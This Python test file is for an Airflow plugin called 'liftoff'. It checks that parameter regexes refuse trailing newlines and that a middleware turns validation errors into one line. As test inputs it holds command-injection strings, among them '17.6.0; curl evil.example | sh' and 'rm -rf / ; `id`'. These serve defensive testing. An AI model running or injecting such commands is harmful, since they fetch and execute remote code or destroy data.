"""liftoff's Param patterns refuse a trailing newline (Airflow checks them with ``re.search``,
the trigger form with a JavaScript RegExp), and a refused Param answers a 400 in one line
(liftoff_plugin.OneLineParamErrors) without the regular expression."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from airflow.sdk import Param
from airflow.sdk.exceptions import ParamValidationError
from airflow.serialization.definitions.param import SerializedParam, SerializedParamsDict
from fastapi import FastAPI, HTTPException
from fastapi.responses import StreamingResponse
from fastapi.testclient import TestClient

from liftoff.versions import EXAMPLES, parse_version
from liftoff_airflow import params
from liftoff_plugin import LiftoffPlugin, OneLineParamErrors

PLUGINS = Path(__file__).resolve().parents[2] / "plugins"
DAGS = PLUGINS.parent / "dags"

VERSIONS = ("17.6.0-ee.0", "17.6.0-rc3.ee.0", "17.6.0+rnightly.308853.0ab19c4f-0",
            "17.6.202611291200-13bd0cc7c2a.3f6b8fe0f4d", *EXAMPLES)
# (pattern, a value it takes) for every pattern liftoff's Params use
PATTERNS = {
    "version": (params.VERSION_PATTERN, "17.6.0+rnightly.101.abcdef2-0"),
    "reason": (params.REASON_PATTERN, "INC-42: canary is broken, rolling back"),
    "patch_id": (params.PATCH_ID_PATTERN, "security-2026-0042"),
    "role": (params.ROLE_PATTERN, "web"),
    "endpoint": (params.ENDPOINT_PATTERN, "/api/v4/projects?per_page=5"),
}


def version_param(**extra) -> Param:
    return Param(None, type=["null", "string"], pattern=params.VERSION_PATTERN, maxLength=100,
                 title="Package version", **extra)


# -- the patterns ------------------------------------------------------------------------------------

@pytest.mark.parametrize("version", VERSIONS)
def test_version_pattern_takes_every_omnibus_format(version: str):
    parse_version(version)  # the engine takes it too
    assert version_param().resolve(version) == version


@pytest.mark.parametrize("tail", ["\n", "\r\n", " ", "\t", "\n\n", "\x00"])
def test_version_pattern_refuses_a_trailing_newline_or_blank(tail: str):
    with pytest.raises(ParamValidationError, match=r"^.* does not match "):
        version_param().resolve("17.5.0-ee.0" + tail)


def test_the_old_version_pattern_let_a_trailing_newline_through():
    """The bug this module fixes: ``^...$`` under re.search."""
    assert Param(None, type="string", pattern=params._LEGACY_VERSION_PATTERN).resolve("17.5.0-ee.0\n")
    with pytest.raises(ParamValidationError):
        Param(None, type="string", pattern=params.anchored(params._LEGACY_VERSION_PATTERN)).resolve(
            "17.5.0-ee.0\n")


@pytest.mark.parametrize("name", sorted(PATTERNS))
def test_every_pattern_takes_its_value_and_refuses_it_with_a_trailing_newline(name: str):
    pattern, good = PATTERNS[name]
    param = Param(None, type=["null", "string"], pattern=pattern)
    assert param.resolve(good) == good
    assert param.resolve(None) is None
    for bad in (good + "\n", good + "\n\n", "\n" + good):
        with pytest.raises(ParamValidationError, match=" does not match "):
            param.resolve(bad)


def test_a_list_item_pattern_refuses_a_trailing_newline():
    roles = Param([], type="array", items={"type": "string", "pattern": params.ROLE_PATTERN})
    assert roles.resolve(["web", "api"]) == ["web", "api"]
    with pytest.raises(ParamValidationError, match=r"'api\\n' does not match"):
        roles.resolve(["web", "api\n"])


@pytest.mark.parametrize(("given", "fixed"), [
    (r"^[a-z]+$", r"^[a-z]+$(?!\n)"),
    (r"[a-z]+", r"^[a-z]+$(?!\n)"),
    (r"^a|b$", r"^(?:a|b)$(?!\n)"),
    (r"^price\$", r"^price\$$(?!\n)"),  # an escaped $ is a character, not the end
    (r"^path\\$", r"^path\\$(?!\n)"),  # an escaped backslash, then the end
])
def test_anchored(given: str, fixed: str):
    assert params.anchored(given) == fixed
    assert params.anchored(fixed) == fixed


def test_version_pattern_is_built_from_the_engine_patterns():
    from liftoff.versions import _PATTERNS

    body = "|".join(p.pattern.strip("^$") for p in _PATTERNS.values())
    assert f"^(?:{body})$(?!\\n)" == params.VERSION_PATTERN


JS_ONLY_PYTHON = [r"\A", r"\Z", r"\z", "(?P<", "(?P=", "(?#", "(?>", "*+", "++", "?+"]


@pytest.mark.parametrize("name", sorted(PATTERNS))
def test_patterns_are_javascript_compatible(name: str):
    pattern = PATTERNS[name][0]
    assert not [bad for bad in JS_ONLY_PYTHON if bad in pattern], pattern
    assert not re.search(r"\(\?[aiLmsux-]+[:)]", pattern), "inline flags are Python only"
    assert pattern.startswith("^") and pattern.endswith(params.END)


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed (the static check above ran)")
def test_patterns_behave_the_same_in_javascript():
    """What the trigger form does: ``new RegExp(pattern).test(value)``."""
    cases = [(pattern, good, True) for pattern, good in PATTERNS.values()]
    cases += [(pattern, good + "\n", False) for pattern, good in PATTERNS.values()]
    cases += [(params.VERSION_PATTERN, v, True) for v in VERSIONS]
    cases += [(params.VERSION_PATTERN, "17.6.0; id", False)]
    script = ("const cases = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
              "console.log(JSON.stringify(cases.map(([p, v]) => new RegExp(p).test(v)"
              " && new RegExp(p, 'u').test(v))));")
    out = subprocess.run(["node", "-e", script], input=json.dumps([c[:2] for c in cases]),
                         capture_output=True, text=True, timeout=60, check=True)
    assert json.loads(out.stdout) == [c[2] for c in cases]
    assert [bool(re.search(p, v)) for p, v, _ in cases] == [c[2] for c in cases]


def test_liftoff_dag_ids_are_the_dags_in_dags_folder():
    declared = set()
    for path in DAGS.glob("*.py"):
        m = re.search(r'^PIPELINE = "([^"]+)"', path.read_text(), re.M)
        assert m, f"{path.name} declares no PIPELINE"
        declared.add(m[1])
    assert declared == params.LIFTOFF_DAG_IDS


# -- the words for a refused Param ---------------------------------------------------------------------

def airflow_detail(name: str, value, **schema) -> str:
    """The detail Airflow's trigger route answers for a refused Param (its own validation)."""
    checked = SerializedParamsDict({name: SerializedParam(value, **schema)})
    with pytest.raises(ParamValidationError) as refused:
        checked.validate()
    return str(refused.value)


VERSION_SCHEMA = {"type": ["null", "string"], "pattern": params.VERSION_PATTERN, "maxLength": 100,
                  "title": "Package version"}


@pytest.mark.parametrize(("name", "value", "schema", "expected"), [
    ("version", "17.6.0+rnightly.101.abcdef2-0\n", VERSION_SCHEMA,
     "Invalid input for param version: " + params.VERSION_RULE + " (got '17.6.0+rnightly.101.abcdef2-0\\n')"),
    ("version", "17.6.0; curl evil.example | sh",
     {**VERSION_SCHEMA, "pattern": params._LEGACY_VERSION_PATTERN},
     "Invalid input for param version: " + params.VERSION_RULE + " (got '17.6.0; curl evil.example | sh')"),
    ("target_version", "x" * 200, {**VERSION_SCHEMA, "title": "Target version"},
     "Invalid input for param target_version: " + params.VERSION_RULE + " (got '" + "x" * 56 + "...)"),
    ("reason", "`id`", {"type": "string", "minLength": 5, "maxLength": 500, "pattern": params.REASON_PATTERN,
                        "title": "Reason"},
     "Invalid input for param reason: must be at least 5 characters (got '`id`')"),
    ("reason", "rm -rf / ; `id`", {"type": "string", "minLength": 5, "pattern": params.REASON_PATTERN},
     "Invalid input for param reason: " + params.REASON_RULE + " (got 'rm -rf / ; `id`')"),
    ("roles", ["web", "Web Servers"],
     {"type": "array", "items": {"type": "string", "pattern": params.ROLE_PATTERN}},
     "Invalid input for param roles: item 2 must be a role name such as web: a lowercase letter or digit, "
     "then up to 63 of a-z 0-9 _ - (one line) (got 'Web Servers')"),
    ("on_failure", "ignore", {"enum": ["rollback", "halt"]},
     "Invalid input for param on_failure: must be one of rollback, halt (got 'ignore')"),
    ("dry_run", "yes please", {"type": "boolean"},
     "Invalid input for param dry_run: must be true or false (got 'yes please')"),
    ("quiet_period_seconds", -5, {"type": ["null", "integer"], "minimum": 0, "maximum": 86400},
     "Invalid input for param quiet_period_seconds: must be at least 0 (got -5)"),
    ("weight", 101, {"anyOf": [{"type": "integer", "minimum": 0, "maximum": 100},
                               {"type": "string", "enum": ["drain", "ready", "maint"]}]},
     "Invalid input for param weight: must be at most 100 (or take another of its allowed forms) (got 101)"),
    ("thing", "a b", {"type": "string", "pattern": r"^[a-z]+$", "title": "Thing"},
     "Invalid input for param thing: is not in the expected format (see the description of Thing) "
     "(got 'a b')"),
])
def test_a_refused_param_is_explained_in_one_line(name, value, schema, expected):
    detail = airflow_detail(name, value, **schema)
    assert "\n\nFailed validating " in detail  # Airflow's own, over many lines
    line = params.explain_param_error(detail)
    assert line == expected
    assert "\n" not in line and "(?:" not in line and "[a-z" not in line


def test_the_value_is_shown_cut_and_repr_d():
    line = params.explain_param_error(airflow_detail("reason", "a\nb" * 100, type="string",
                                                     pattern=params.REASON_PATTERN))
    got = line.split(" (got ", 1)[1]
    assert got.startswith("'a\\nb") and len(got) == params.MAX_VALUE_CHARS + 1  # and the ")"


def test_no_value_and_foreign_messages():
    assert params.explain_param_error("Invalid input for param x: No value passed") == (
        "Invalid input for param x: is required: no value was given")
    assert params.explain_param_error("Dag with dag_id: 'x' not found") is None
    # a pattern failure in a shape not parsed: the regular expression is still left out
    assert params.explain_param_error("Invalid input for param v: 'a b' does not match '^[a-z]+$'") == (
        "Invalid input for param v: is not in the expected format")


# -- the middleware ----------------------------------------------------------------------------------

def app_answering(detail: str, status: int = 400, stream: bool = False) -> FastAPI:
    app = FastAPI()

    @app.post("/api/v2/dags/{dag_id}/dagRuns")
    def trigger(dag_id: str):
        if stream:
            body = json.dumps({"detail": detail}).encode()
            return StreamingResponse(iter([body[:10], body[10:]]), status_code=status,
                                     media_type="application/json")
        raise HTTPException(status, detail)

    @app.post("/api/v2/dags/{dag_id}/dagRuns/list")
    def listing(dag_id: str):
        raise HTTPException(400, detail)

    @app.get("/api/v2/dags/{dag_id}/dagRuns")
    def runs(dag_id: str):
        raise HTTPException(400, detail)

    app.add_middleware(OneLineParamErrors)
    return app


@pytest.fixture(scope="module")
def refused() -> str:
    return airflow_detail("version", "17.5.0-ee.0\n", **VERSION_SCHEMA)


def test_a_liftoff_trigger_refusal_is_one_line(refused: str):
    with TestClient(app_answering(refused)) as client:
        resp = client.post("/api/v2/dags/deploy_canary/dagRuns", json={"conf": {"version": "17.5.0-ee.0\n"}})
    assert resp.status_code == 400
    assert resp.headers["content-length"] == str(len(resp.content))
    assert resp.headers["content-type"] == "application/json"
    assert resp.json() == {"detail": "Invalid input for param version: " + params.VERSION_RULE
                                     + " (got '17.5.0-ee.0\\n')"}
    assert "(?:" not in resp.text


@pytest.mark.parametrize(("method", "path", "status", "stream"), [
    ("post", "/api/v2/dags/someone_elses_dag/dagRuns", 400, False),  # not a liftoff DAG
    ("post", "/api/v2/dags/deploy_canary/dagRuns/list", 400, False),  # another path
    ("get", "/api/v2/dags/deploy_canary/dagRuns", 400, False),  # another method
    ("post", "/api/v2/dags/deploy_canary/dagRuns", 409, False),  # another status
    ("post", "/api/v2/dags/deploy_canary/dagRuns", 400, True),  # a body in several parts
])
def test_everything_else_passes_untouched(refused: str, method, path, status, stream):
    with TestClient(app_answering(refused, status=status, stream=stream)) as client:
        resp = getattr(client, method)(path)
    assert resp.status_code == status
    assert resp.json() == {"detail": refused}


@pytest.mark.parametrize("detail", [
    "Dag with dag_id: 'deploy_canary' has import errors and cannot be triggered",
    "Invalid input for param: nothing",
])
def test_other_400s_pass_untouched(detail: str):
    with TestClient(app_answering(detail)) as client:
        resp = client.post("/api/v2/dags/deploy_canary/dagRuns")
    assert resp.status_code == 400 and resp.json() == {"detail": detail}


def test_a_200_passes_untouched():
    app = FastAPI()

    @app.post("/api/v2/dags/{dag_id}/dagRuns")
    def trigger(dag_id: str):
        return {"dag_run_id": "manual__1", "detail": "Invalid input for param version: x\n\ny"}

    app.add_middleware(OneLineParamErrors)
    with TestClient(app) as client:
        resp = client.post("/api/v2/dags/deploy_canary/dagRuns")
    assert resp.json() == {"dag_run_id": "manual__1", "detail": "Invalid input for param version: x\n\ny"}


def test_the_plugin_is_found_in_plugins_and_installs_the_middleware(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch):
    """Airflow's own loader (only this file, so the other plugins/ modules are not loaded under
    top-level names here) and Airflow's own use of ``fastapi_root_middlewares``."""
    from airflow._shared.plugins_manager.plugins_manager import _load_plugins_from_plugin_directory
    from airflow.api_fastapi import app as api_app

    (tmp_path / "liftoff_plugin.py").symlink_to(PLUGINS / "liftoff_plugin.py")
    monkeypatch.setitem(sys.modules, "liftoff_plugin", sys.modules["liftoff_plugin"])
    found, errors = _load_plugins_from_plugin_directory(plugins_folder=str(tmp_path))
    assert errors == {}
    assert [p.name for p in found] == ["liftoff"]
    assert LiftoffPlugin.name == "liftoff"

    monkeypatch.setattr("airflow.plugins_manager.get_fastapi_plugins",
                        lambda: ([], found[0].fastapi_root_middlewares))
    app = FastAPI()
    api_app.init_plugins(app)
    assert [m.cls.__name__ for m in app.user_middleware] == ["OneLineParamErrors"]
